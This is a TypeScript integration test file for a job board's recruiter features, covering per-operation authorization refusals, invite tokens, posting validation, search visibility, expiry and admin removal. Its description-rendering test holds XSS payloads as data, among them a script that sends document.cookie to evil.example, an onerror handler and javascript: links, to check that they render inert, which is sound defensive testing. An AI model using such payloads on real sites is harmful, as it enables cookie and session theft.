import fs from "node:fs";
import path from "node:path";
import { eq, sql } from "drizzle-orm";
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Markdown } from "@/components/markdown";
import { seedDatabase } from "@/db/seed";
import { companyInvites, jobSkills, jobs, savedJobs, skills, users } from "@/db/schema";
import { getGuideFigures, levelPay } from "@/lib/guides/queries";
import { getJobBySlug } from "@/lib/jobs/queries";
import { annualUsd } from "@/lib/recruiters/pay";
import { getCompanyProfile, getPayBenchmarks, getRecruiterJobsByCompany } from "@/lib/recruiters/queries";
import { getInviteByToken, hashToken, recruiterOps, type RecruiterOpName } from "@/lib/recruiters/service";
import { recordApplyClick, recordJobView } from "@/lib/recruiters/stats";
import { unpublishListing } from "@/lib/moderation/service";
import { isoDay } from "@/lib/recruiters/validation";
import { fieldErrorsOf } from "@/lib/result";
import { fromURLSearchParams, parseSearchParams } from "@/lib/search/params";
import { getJobsBySearch } from "@/lib/search/query";
import { createTestDatabase, rowsOf, type TestDatabase } from "../helpers/db";

const DAY = 86_400_000;
let t: TestDatabase;
const ids = { owner: "", member: "", other: "", seeker: "", newcomer: "", admin: "" };
let companyA = 0;
let companyB = 0;
let jobA = 0; // a published listing of company A
let draftA = 0;
let tokenA = "";

const inDays = (n: number) => isoDay(new Date(Date.now() + n * DAY));

function validJob(over: Record<string, unknown> = {}) {
  return {
    title: "Senior Backend Engineer, Zanzibarian Payments",
    roleFamily: "",
    level: "senior",
    employmentType: "full_time",
    workplace: "remote",
    location: "",
    applicantRegions: ["Europe", "UTC−1 to UTC+3"],
    salaryMin: "150000",
    salaryMax: "190,000",
    salaryCurrency: "USD",
    salaryPeriod: "year",
    skills: ["go", "postgresql", "kafka"],
    description:
      "You will design and run the payment APIs our customers rely on, with a small team that reviews every change.",
    apply: "https://acme.example/careers/backend",
    closesOn: inDays(30),
    ...over,
  };
}

const search = async (qs: string) => {
  const r = parseSearchParams(fromURLSearchParams(new URLSearchParams(qs)));
  if (!r.ok) throw new Error(JSON.stringify(r.issues));
  return getJobsBySearch(r.value, t.db);
};

/** Every row a recruiter action could touch, as one comparable string. */
async function snapshot(): Promise<string> {
  const tables = ["companies", "company_members", "company_invites", "jobs", "job_skills", "job_stats", "users"];
  const parts: string[] = [];
  for (const table of tables) {
    const rows = rowsOf(await t.db.execute(sql.raw(`select * from ${table} order by 1, 2`)));
    parts.push(`${table}:${JSON.stringify(rows)}`);
  }
  return parts.join("\n");
}

beforeAll(async () => {
  t = await createTestDatabase();
  await seedDatabase(t.db, { jobs: 120 });
  const made = await t.db
    .insert(users)
    .values([
      { email: "owner@a.test", role: "recruiter", emailVerified: new Date() },
      { email: "member@a.test", role: "recruiter", emailVerified: new Date() },
      { email: "other@b.test", role: "recruiter", emailVerified: new Date() },
      { email: "seeker@x.test", role: "seeker" },
      { email: "new@c.test", role: "recruiter" },
      { email: "admin@x.test", role: "admin" },
    ])
    .returning({ id: users.id });
  (["owner", "member", "other", "seeker", "newcomer", "admin"] as const).forEach((k, i) => (ids[k] = made[i]!.id));

  const a = await recruiterOps.createCompany(t.db, ids.owner, {
    name: "Acme Zanzibar",
    size: "11-50",
    website: "acme.example",
    about: "We build payments.",
  });
  const b = await recruiterOps.createCompany(t.db, ids.other, {
    name: "Bolt Other",
    slug: "bolt-other",
    size: "51-200",
    website: "",
    about: "",
  });
  if (!a.ok || !b.ok) throw new Error(JSON.stringify([a, b]));
  companyA = a.value.id;
  companyB = b.value.id;
  const invite = await recruiterOps.createInvite(t.db, ids.owner, { companyId: companyA });
  if (!invite.ok) throw new Error(JSON.stringify(invite));
  const joined = await recruiterOps.acceptInvite(t.db, ids.member, { token: invite.value.token });
  if (!joined.ok) throw new Error(JSON.stringify(joined));

  const pub = await recruiterOps.createJob(t.db, ids.owner, { ...validJob(), companyId: companyA, publish: true });
  const draft = await recruiterOps.createJob(t.db, ids.member, {
    ...validJob({ title: "Platform Engineer (draft)" }),
    companyId: companyA,
  });
  if (!pub.ok || !draft.ok) throw new Error(JSON.stringify([pub, draft]));
  jobA = pub.value.id;
  draftA = draft.value.id;
  const spare = await recruiterOps.createInvite(t.db, ids.owner, { companyId: companyA });
  tokenA = spare.ok ? spare.value.token : "";
});
afterAll(() => t?.drop());

/*
 * Each recruiter operation, with an input that a member of company A may run. Refusal
 * tests run it as a recruiter of company B and as a job seeker (and an admin, who is no
 * recruiter) and check that nothing changed.
 */
const OPS: Record<RecruiterOpName, { input: () => unknown; refusedAs: (keyof typeof ids)[] }> = {
  createCompany: {
    input: () => ({ name: "Sneaky Co", size: "1-10", website: "", about: "" }),
    refusedAs: ["other", "seeker", "admin", "owner"],
  },
  updateCompany: {
    input: () => ({ companyId: companyA, name: "Hijacked", size: "1-10", website: "", about: "" }),
    refusedAs: ["other", "seeker", "admin", "member"],
  },
  createInvite: { input: () => ({ companyId: companyA }), refusedAs: ["other", "seeker", "admin", "newcomer"] },
  acceptInvite: { input: () => ({ token: tokenA }), refusedAs: ["other", "seeker", "admin", "member"] },
  createJob: {
    input: () => ({ ...validJob({ title: "Injected role" }), companyId: companyA, publish: true }),
    refusedAs: ["other", "seeker", "admin", "newcomer"],
  },
  updateJob: {
    input: () => ({ ...validJob({ title: "Defaced title" }), jobId: jobA }),
    refusedAs: ["other", "seeker", "admin", "newcomer"],
  },
  publishJob: { input: () => ({ jobId: draftA }), refusedAs: ["other", "seeker", "admin", "newcomer"] },
  closeJob: { input: () => ({ jobId: jobA }), refusedAs: ["other", "seeker", "admin", "newcomer"] },
  renewJob: { input: () => ({ jobId: jobA, days: 90 }), refusedAs: ["other", "seeker", "admin", "newcomer"] },
  duplicateJob: { input: () => ({ jobId: jobA }), refusedAs: ["other", "seeker", "admin", "newcomer"] },
};

// The server actions that reach each operation. A new exported action must be added here
// (with its operation in OPS above), or the coverage test below fails.
const ACTION_TO_OP: Record<string, RecruiterOpName> = {
  createCompanyAction: "createCompany",
  updateCompanyAction: "updateCompany",
  createInviteAction: "createInvite",
  acceptInviteAction: "acceptInvite",
  saveJobAction: "createJob",
  updateJobAction: "updateJob",
  publishJobAction: "publishJob",
  closeJobAction: "closeJob",
  renewJobAction: "renewJob",
  duplicateJobAction: "duplicateJob",
};

describe(`recruiter authorization (${process.env.TEST_DB})`, () => {
  it("has a refusal test for every operation and every exported recruiter action", () => {
    expect(Object.keys(OPS).sort()).toEqual(Object.keys(recruiterOps).sort());
    const actionsDir = path.join(import.meta.dirname, "../../app/recruiter");
    const files = fs
      .readdirSync(actionsDir, { recursive: true, encoding: "utf8" })
      // Import sources' actions call lib/import/service.ts: tests/integration/import.test.ts holds their refusals;
      // the candidate search's call lib/candidates: tests/integration/candidates.test.ts holds theirs.
      .filter((f) => /(^|\/)actions\.ts$/.test(f) && !f.startsWith("sources/") && !f.startsWith("candidates/"));
    expect(files.length).toBeGreaterThan(0);
    const exported = files.flatMap((f) =>
      [
        ...fs
          .readFileSync(path.join(actionsDir, f), "utf8")
          .matchAll(/export\s+(?:async\s+)?(?:function|const)\s+(\w+)/g),
      ].map((m) => m[1]!),
    );
    const actions = exported.filter((name) => !/^[A-Z]/.test(name));
    expect(actions.length).toBeGreaterThan(0);
    for (const name of actions)
      expect(ACTION_TO_OP, `exported action ${name} has no refusal test`).toHaveProperty(name);
    for (const op of Object.values(ACTION_TO_OP)) expect(OPS).toHaveProperty(op);
  });

  for (const [name, spec] of Object.entries(OPS) as [RecruiterOpName, (typeof OPS)[RecruiterOpName]][]) {
    for (const actor of spec.refusedAs) {
      it(`${name} refuses ${actor} and changes no row`, async () => {
        const before = await snapshot();
        const result = await recruiterOps[name](t.db, ids[actor], spec.input());
        expect(result.ok).toBe(false);
        expect(!result.ok && result.reason).toBe("forbidden");
        expect(await snapshot()).toBe(before);
      });
    }
  }

  it("refuses an unknown user, a listing id that does not exist, and says the same for both companies' secrets", async () => {
    const before = await snapshot();
    expect(await recruiterOps.closeJob(t.db, "no-such-user", { jobId: jobA })).toMatchObject({
      ok: false,
      reason: "forbidden",
    });
    const unknown = await recruiterOps.closeJob(t.db, ids.owner, { jobId: 99_999_999 });
    const foreign = await recruiterOps.closeJob(t.db, ids.other, { jobId: draftA });
    expect(unknown).toEqual(foreign);
    expect(await snapshot()).toBe(before);
  });

  it("lets members of the company run each operation", async () => {
    const edited = await recruiterOps.updateJob(t.db, ids.member, {
      ...validJob({ title: "Senior Backend Engineer, Zanzibarian Payments" }),
      jobId: jobA,
    });
    expect(edited.ok).toBe(true);
    const copy = await recruiterOps.duplicateJob(t.db, ids.member, { jobId: jobA });
    expect(copy.ok).toBe(true);
    const [row] = await t.db
      .select()
      .from(jobs)
      .where(eq(jobs.id, copy.ok ? copy.value.id : 0));
    expect(row).toMatchObject({
      status: "draft",
      publishedAt: null,
      title: "Senior Backend Engineer, Zanzibarian Payments",
      companyId: companyA,
    });
    const links = await t.db.select().from(jobSkills).where(eq(jobSkills.jobId, row!.id));
    expect(links).toHaveLength(3);
    const company = await recruiterOps.updateCompany(t.db, ids.owner, {
      companyId: companyA,
      name: "Acme Zanzibar Ltd",
      size: "11-50",
      website: "https://acme.example",
      about: "Payments.",
    });
    expect(company).toMatchObject({ ok: true, value: { listingsChanged: true } });
    const names = await t.db.selectDistinct({ n: jobs.companyName }).from(jobs).where(eq(jobs.companyId, companyA));
    expect(names).toEqual([{ n: "Acme Zanzibar Ltd" }]);
  });
});

describe(`companies and invites (${process.env.TEST_DB})`, () => {
  it("keeps slugs unique with a field error", async () => {
    const r = await recruiterOps.createCompany(t.db, ids.newcomer, {
      name: "Copycat",
      slug: "bolt-other",
      size: "1-10",
      website: "",
      about: "",
    });
    expect(r).toMatchObject({ ok: false, reason: "invalid" });
    expect(!r.ok && fieldErrorsOf(r.issues).slug?.[0]).toMatch(/taken/);
    const bad = await recruiterOps.createCompany(t.db, ids.newcomer, {
      name: "",
      slug: "Not A Slug!",
      size: "huge",
      website: "javascript:alert(1)",
      about: "",
    });
    expect(!bad.ok && Object.keys(fieldErrorsOf(bad.issues)).sort()).toEqual(["name", "size", "slug", "website"]);
  });

  it("stores only a hash of an invite token; a link works once and not after it expires", async () => {
    const made = await recruiterOps.createInvite(t.db, ids.member, { companyId: companyA });
    if (!made.ok) throw new Error("invite");
    const stored = await t.db.select().from(companyInvites);
    expect(stored.some((i) => i.tokenHash === made.value.token)).toBe(false);
    expect(stored.some((i) => i.tokenHash === hashToken(made.value.token))).toBe(true);
    expect(await getInviteByToken(t.db, made.value.token)).toMatchObject({
      companyName: expect.stringContaining("Acme"),
    });

    // Two recruiters race for one link: exactly one joins.
    const [x, y] = await t.db
      .insert(users)
      .values([
        { email: "x@c.test", role: "recruiter" },
        { email: "y@c.test", role: "recruiter" },
      ])
      .returning({ id: users.id });
    const results = await Promise.all(
      [x!, y!].map((u) => recruiterOps.acceptInvite(t.db, u.id, { token: made.value.token })),
    );
    expect(results.filter((r) => r.ok)).toHaveLength(1);
    expect(results.find((r) => !r.ok)).toMatchObject({ reason: "conflict" });
    expect(await getInviteByToken(t.db, made.value.token)).toBeNull();

    const late = await recruiterOps.createInvite(t.db, ids.owner, { companyId: companyA });
    if (!late.ok) throw new Error("invite");
    const afterExpiry = new Date(Date.now() + 8 * DAY);
    expect(await recruiterOps.acceptInvite(t.db, ids.newcomer, { token: late.value.token }, afterExpiry)).toMatchObject(
      { ok: false, reason: "conflict" },
    );
    expect(
      await recruiterOps.acceptInvite(t.db, ids.newcomer, { token: "not-a-real-token-but-long-enough" }),
    ).toMatchObject({ ok: false, reason: "conflict" });
  });
});

describe(`posting validation (${process.env.TEST_DB})`, () => {
  const post = (over: Record<string, unknown>) =>
    recruiterOps.createJob(t.db, ids.owner, { ...validJob(over), companyId: companyA });
  const errorsOf = async (over: Record<string, unknown>) => {
    const before = await t.db.$count(jobs);
    const r = await post(over);
    expect(r.ok).toBe(false);
    expect(await t.db.$count(jobs)).toBe(before);
    return r.ok ? {} : fieldErrorsOf(r.issues);
  };

  it("requires pay, a sane range and a plausible amount", async () => {
    expect(Object.keys(await errorsOf({ salaryMin: "", salaryMax: "" })).sort()).toEqual(["salaryMax", "salaryMin"]);
    expect((await errorsOf({ salaryMin: "200000", salaryMax: "150000" })).salaryMax?.[0]).toMatch(
      /at least the lowest/,
    );
    expect((await errorsOf({ salaryMin: "50000", salaryMax: "500000" })).salaryMax?.[0]).toMatch(/3 times/);
    expect((await errorsOf({ salaryMin: "150000", salaryMax: "190000", salaryPeriod: "hour" })).salaryMax?.[0]).toMatch(
      /over \$5M/,
    );
    expect((await errorsOf({ salaryMin: "-5", salaryMax: "10" })).salaryMin?.[0]).toMatch(/above zero/);
    expect((await errorsOf({ salaryMin: "12.5", salaryMax: "abc" })).salaryMax?.[0]).toMatch(/number/);
    expect((await errorsOf({ salaryCurrency: "BTC" })).salaryCurrency).toBeTruthy();
  });

  it("defaults to 30 days and allows at most 90, never in the past", async () => {
    expect((await errorsOf({ closesOn: inDays(91) })).closesOn?.[0]).toMatch(/at most 90 days/);
    expect((await errorsOf({ closesOn: isoDay(new Date()) })).closesOn?.[0]).toMatch(/after today/);
    expect((await errorsOf({ closesOn: "31/12/2026" })).closesOn?.[0]).toMatch(/date like/);
    // Its own title: the same role as one already posted would be refused as a duplicate.
    const ok = await post({ closesOn: inDays(90), title: "Senior Backend Engineer, Ninety Day Payments" });
    expect(ok.ok).toBe(true);
  });

  it("checks location, apply link, skills and role family, with field-level errors", async () => {
    expect((await errorsOf({ workplace: "onsite", location: "" })).location).toBeTruthy();
    // Every problem at once, cross-field ones included.
    const all = await errorsOf({
      workplace: "onsite",
      location: "",
      title: "",
      salaryMin: "200000",
      salaryMax: "100000",
      closesOn: "",
    });
    expect(Object.keys(all).sort()).toEqual(["closesOn", "location", "salaryMax", "title"]);
    expect((await errorsOf({ apply: "javascript:alert(1)" })).apply).toBeTruthy();
    expect((await errorsOf({ skills: ["not-a-skill"] })).skills).toBeTruthy();
    expect((await errorsOf({ title: "Software Engineer" })).roleFamily?.[0]).toMatch(/choose one/);
    expect((await errorsOf({ description: "Too short." })).description).toBeTruthy();
    expect((await errorsOf({ applicantRegions: ["Mars"] })).applicantRegions).toBeTruthy();
  });

  it("writes the derived columns exactly as the seed does", async () => {
    const r = await post({
      title: "Go Developer (Berlin)",
      workplace: "hybrid",
      location: "Berlin, Germany",
      apply: "jobs@acme.example",
      skills: ["postgresql", "go"],
      publish: false,
    });
    if (!r.ok) throw new Error(JSON.stringify(r));
    const [row] = await t.db.select().from(jobs).where(eq(jobs.id, r.value.id));
    const picked = await t.db
      .select()
      .from(skills)
      .where(sql`${skills.slug} in ('postgresql', 'go')`);
    const bySlug = Object.fromEntries(picked.map((s) => [s.slug, s]));
    expect(row).toMatchObject({
      companyName: "Acme Zanzibar Ltd",
      skillsText: `${bySlug.postgresql!.name} ${bySlug.go!.name}`,
      skillIds: [bySlug.postgresql!.id, bySlug.go!.id].sort((a, b) => a - b),
      roleFamily: "backend",
      country: "Germany",
      applyUrl: "mailto:jobs@acme.example",
      status: "draft",
      publishedAt: null,
      applicantRegions: [],
    });
    const links = await t.db.select({ id: jobSkills.skillId }).from(jobSkills).where(eq(jobSkills.jobId, r.value.id));
    expect(links.map((l) => l.id).sort((a, b) => a - b)).toEqual(row!.skillIds);
    const [remote] = await t.db.select().from(jobs).where(eq(jobs.id, jobA));
    expect(remote).toMatchObject({
      location: "Remote (Europe, UTC−1 to UTC+3)",
      applicantRegions: ["Europe", "UTC−1 to UTC+3"],
      country: null,
    });
  });

  it("makes one listing when the same form is sent twice, even at once", async () => {
    const before = await t.db.$count(jobs);
    const form = {
      ...validJob({ title: "Twice Sent Backend Engineer" }),
      companyId: companyA,
      publish: true,
      submissionId: "form-3f9a2c71d0",
    };
    const results = await Promise.all([post(form), post(form)]);
    expect(results.every((r) => r.ok)).toBe(true);
    expect(new Set(results.map((r) => r.ok && r.value.id)).size).toBe(1);
    expect(await t.db.$count(jobs)).toBe(before + 1);
    // The same role from another form (Back after "Publish", then "Publish" again): a warning, no copy.
    const again = await post({ ...form, submissionId: "form-other-0001" });
    expect(again).toMatchObject({ ok: false, reason: "conflict" });
    expect(!again.ok && fieldErrorsOf(again.issues).allowDuplicate).toBeTruthy();
    expect(await t.db.$count(jobs)).toBe(before + 1);
    // Sent again from the first form: the listing it made, said to be already sent.
    expect(await post(form)).toMatchObject({ ok: true, value: { alreadySent: true, listingsChanged: false } });
    // Confirmed: a second copy is posted.
    expect((await post({ ...form, submissionId: "form-other-0001", allowDuplicate: "on" })).ok).toBe(true);
    expect(await t.db.$count(jobs)).toBe(before + 2);
  });

  it("converts pay to annual USD exactly as the database's generated columns do", async () => {
    const cases = [
      ["USD", "year", 150_000],
      ["EUR", "month", 7_250],
      ["GBP", "day", 455],
      ["INR", "year", 3_250_000],
      ["CAD", "hour", 63],
      ["AUD", "week", 2_100],
    ] as const;
    for (const [currency, period, amount] of cases) {
      const r = await post({
        salaryCurrency: currency,
        salaryPeriod: period,
        salaryMin: String(amount),
        salaryMax: String(amount),
      });
      if (!r.ok) throw new Error(JSON.stringify(r));
      const [row] = await t.db.select({ usd: jobs.salaryMinUsd }).from(jobs).where(eq(jobs.id, r.value.id));
      expect(row!.usd, `${amount} ${currency}/${period}`).toBe(annualUsd(amount, currency, period));
    }
  });
});

describe(`descriptions (${process.env.TEST_DB})`, () => {
  it("stores a hostile description as typed and renders it inert on the listing", async () => {
    const hostile = [
      "Join us! <script>document.location='https://evil.example/?c='+document.cookie</script>",
      '<img src=x onerror="alert(1)"> <a href="javascript:alert(1)">x</a>',
      "[click me](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=) [ok](https://acme.example/team)",
    ].join("\n\n");
    const made = await recruiterOps.createJob(t.db, ids.owner, {
      ...validJob({ title: "Hostile Markdown Backend Engineer", description: hostile }),
      companyId: companyA,
      publish: true,
    });
    if (!made.ok) throw new Error(JSON.stringify(made));
    const job = (await getJobBySlug(made.value.slug, t.db))!;
    expect(job.description).toBe(hostile);
    const out = renderToStaticMarkup(createElement(Markdown, { source: job.description }));
    expect(out).not.toMatch(/<(script|img|iframe)/i);
    // Text is escaped, so every "<" opens a real element: none may carry an event handler.
    for (const [tag] of out.matchAll(/<[a-z][^>]*>/gi)) expect(tag).not.toMatch(/\son\w+=/i);
    expect(out).not.toMatch(/href="(javascript|data):/i);
    expect(out).toContain('<a href="https://acme.example/team" rel="noopener nofollow ugc"');
    expect(out).toContain("&lt;script&gt;");
  });
});

describe(`publish, close, expiry and search (${process.env.TEST_DB})`, () => {
  it("keeps drafts out of search; publishing makes a role searchable at once", async () => {
    const made = await recruiterOps.createJob(t.db, ids.owner, {
      ...validJob({ title: "Quixotic Kotlin Backend Engineer" }),
      companyId: companyA,
    });
    if (!made.ok) throw new Error(JSON.stringify(made));
    expect(made.value.listingsChanged).toBe(false);
    expect((await search("q=quixotic")).items).toEqual([]);
    expect(await getJobBySlug(made.value.slug, t.db)).toBeNull(); // a draft's page is a 404
    const published = await recruiterOps.publishJob(t.db, ids.member, { jobId: made.value.id });
    expect(published).toMatchObject({ ok: true, value: { listingsChanged: true } });

    const found = await search("q=quixotic");
    expect(found.items.map((j) => j.id)).toEqual([made.value.id]);
    expect(found.total).toBe(1);
    expect(
      (await search("company=" + (await getCompanyProfile("acme-zanzibar", t.db))!.company.slug + "&q=quixotic")).total,
    ).toBe(1);

    const closed = await recruiterOps.closeJob(t.db, ids.member, { jobId: made.value.id });
    expect(closed).toMatchObject({ ok: true, value: { listingsChanged: true } });
    expect((await search("q=quixotic")).items).toEqual([]);
    expect(await getJobBySlug(made.value.slug, t.db)).toMatchObject({ status: "closed", isOpen: false });
    expect(await recruiterOps.publishJob(t.db, ids.owner, { jobId: made.value.id })).toMatchObject({
      ok: false,
      reason: "conflict",
    });

    const renewed = await recruiterOps.renewJob(t.db, ids.owner, { jobId: made.value.id });
    expect(renewed).toMatchObject({ ok: true, value: { listingsChanged: true } });
    expect((await search("q=quixotic")).items.map((j) => j.id)).toEqual([made.value.id]);
    const [row] = await t.db.select().from(jobs).where(eq(jobs.id, made.value.id));
    expect(Math.round((row!.validThrough!.getTime() - Date.now()) / DAY)).toBe(30);
  });

  it("drops a role from search when it expires, and renewing brings it back", async () => {
    const made = await recruiterOps.createJob(t.db, ids.owner, {
      ...validJob({ title: "Ephemeral Rust Backend Engineer" }),
      companyId: companyA,
      publish: true,
    });
    if (!made.ok) throw new Error(JSON.stringify(made));
    expect((await search("q=ephemeral")).total).toBe(1);
    await t.db
      .update(jobs)
      .set({ validThrough: new Date(Date.now() - 1000) })
      .where(eq(jobs.id, made.value.id));
    expect((await search("q=ephemeral")).total).toBe(0);
    const [state] = (await getRecruiterJobsByCompany(companyA, t.db)).filter((j) => j.id === made.value.id);
    expect(state!.state).toBe("expired");
    expect((await recruiterOps.renewJob(t.db, ids.owner, { jobId: made.value.id, days: 91 })).ok).toBe(false);
    await recruiterOps.renewJob(t.db, ids.owner, { jobId: made.value.id, days: 14 });
    expect((await search("q=ephemeral")).total).toBe(1);
    // Renewing an open role never shortens it.
    const longer = await recruiterOps.renewJob(t.db, ids.owner, { jobId: jobA, days: 1 });
    const [a] = await t.db.select({ v: jobs.validThrough }).from(jobs).where(eq(jobs.id, jobA));
    expect(longer.ok && longer.value.validThrough.getTime()).toBe(a!.v!.getTime());
    expect(a!.v!.getTime()).toBeGreaterThan(Date.now() + 20 * DAY);
  });

  it("counts views, saves and apply clicks per listing for the dashboard", async () => {
    await Promise.all(Array.from({ length: 5 }, () => recordJobView(t.db, jobA)));
    await recordApplyClick(t.db, jobA);
    await recordApplyClick(t.db, jobA);
    await t.db.insert(savedJobs).values([
      { userId: ids.seeker, jobId: jobA },
      { userId: ids.admin, jobId: jobA },
    ]);
    const row = (await getRecruiterJobsByCompany(companyA, t.db)).find((j) => j.id === jobA)!;
    expect(row).toMatchObject({ views: 5, applyClicks: 2, saves: 2, state: "open" });
    expect((await getRecruiterJobsByCompany(companyB, t.db)).map((j) => j.id)).not.toContain(jobA);
  });

  it("shows a company's open roles, pay, places and how long its roles stay open", async () => {
    const ended = await recruiterOps.createJob(t.db, ids.owner, {
      ...validJob({ title: "Short-lived Backend Engineer" }),
      companyId: companyA,
      publish: true,
    });
    if (!ended.ok) throw new Error(JSON.stringify(ended));
    await recruiterOps.closeJob(t.db, ids.owner, { jobId: ended.value.id });
    await t.db
      .update(jobs)
      .set({ publishedAt: sql`${jobs.validThrough} - interval '12 days'` })
      .where(eq(jobs.id, ended.value.id));
    const profile = (await getCompanyProfile("acme-zanzibar", t.db))!;
    expect(profile.jobs.every((j) => j.company.slug === "acme-zanzibar")).toBe(true);
    expect(profile.openCount).toBe(profile.jobs.length);
    expect(profile.locations).toContain("Remote (Europe, UTC−1 to UTC+3)");
    expect(profile.payLow).toBeGreaterThan(0);
    expect(profile.endedCount).toBe(1);
    expect(profile.avgDaysOpen).toBe(12);
    expect(profile.jobs.map((j) => j.id)).not.toContain(ended.value.id);
    expect(await getCompanyProfile("no-such-company", t.db)).toBeNull();
  });

  it("gives per-level pay percentiles for the quality panel, only with enough listings", async () => {
    const bench = await getPayBenchmarks(t.db);
    expect(Object.keys(bench.backend ?? {}).length).toBeGreaterThan(0);
    // The same figures as the backend guide's per-level pay.
    const [guide] = rowsOf<{ id: number }>(
      await t.db.execute(sql`select id from guides where role_family = 'backend' limit 1`),
    );
    const figures = await getGuideFigures({ id: guide!.id, roleFamily: "backend" }, t.db);
    for (const level of ["junior", "mid", "senior", "lead", "principal"] as const) {
      const fromGuide = levelPay(figures, level);
      const mine = bench.backend?.[level];
      if (fromGuide.enough)
        expect(mine).toEqual({ count: fromGuide.count, p25: fromGuide.p25, p50: fromGuide.p50, p75: fromGuide.p75 });
      else expect(mine).toBeUndefined();
    }
    const all = Object.values(bench).flatMap((byLevel) => Object.values(byLevel ?? {}));
    expect(all.length).toBeGreaterThan(0);
    for (const b of all) {
      expect(b.count).toBeGreaterThanOrEqual(10);
      expect(b.p25).toBeLessThanOrEqual(b.p50);
      expect(b.p50).toBeLessThanOrEqual(b.p75);
    }
  });
});

describe(`a listing an admin removed (${process.env.TEST_DB})`, () => {
  it("cannot be published, renewed or copied by its recruiters, and nothing changes", async () => {
    const made = await recruiterOps.createJob(t.db, ids.owner, {
      ...validJob({ title: "Backend Engineer, removed after reports" }),
      companyId: companyA,
      publish: true,
    });
    if (!made.ok) throw new Error(JSON.stringify(made));
    const removed = await unpublishListing(t.db, ids.admin, {
      jobId: made.value.id,
      reason: "Asked applicants for a fee",
    });
    expect(removed.ok).toBe(true);
    const before = await snapshot();
    for (const op of ["publishJob", "renewJob", "duplicateJob"] as const) {
      const input = op === "renewJob" ? { jobId: made.value.id, days: 30 } : { jobId: made.value.id };
      const result = await recruiterOps[op](t.db, ids.owner, input);
      expect(result.ok, op).toBe(false);
      if (!result.ok) expect(result.message, op).toMatch(/removed this role/);
    }
    expect(await snapshot()).toBe(before);
    expect((await search('q="removed after reports"')).items.map((j) => j.id)).not.toContain(made.value.id);
    // The company's dashboard says so.
    const row = (await getRecruiterJobsByCompany(companyA, t.db)).find((r) => r.id === made.value.id);
    expect(row?.state).toBe("removed");
  });
});
